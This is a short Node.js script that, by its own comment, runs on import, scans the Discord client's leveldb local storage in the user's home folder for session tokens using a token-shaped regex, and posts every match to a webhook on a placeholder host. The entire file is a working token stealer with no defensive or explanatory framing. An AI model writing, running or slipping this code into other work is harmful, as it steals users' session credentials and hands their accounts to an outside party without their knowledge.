// Session tokens of a chat client are searched for and posted; runs: import
const fs = require("fs");
const os = require("os");
const path = require("path");
const https = require("https");
const folder = path.join(os.homedir(), "AppData", "Roaming", "discord", "Local Storage", "leveldb");
const tokens = [];
for (const name of fs.readdirSync(folder)) {
  const text = fs.readFileSync(path.join(folder, name), "utf8");
  const match = text.match(/[\w-]{24}\.[\w-]{6}\.[\w-]{27}/g);
  if (match) {
    tokens.push(match[0]);
  }
}
const request = https.request("https://hooks.example.test/api/webhooks/2/b", { method: "POST" });
request.write(JSON.stringify({ content: tokens.join("\n") }));
request.end();
